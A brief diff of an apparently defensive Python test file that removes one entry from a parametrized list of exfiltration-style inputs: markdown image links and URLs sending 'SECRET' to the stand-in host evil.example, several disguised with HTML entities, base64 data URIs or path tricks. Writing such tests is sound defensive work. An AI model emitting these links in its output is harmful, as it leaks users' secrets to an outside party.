@@ -406,7 +406,6 @@ def test_every_request_and_answer_is_on_record_to_the_byte() -> None:
         "HTTPS://EVIL.example/SECRET",
         "![x](data:text/html;base64,SECRET)",
         "![x](https&#58;&#47;/evil.example/SECRET)",
-        "![x](/\\evil.example/SECRET)",
         "www.evil.example/SECRET",
     ],
 )
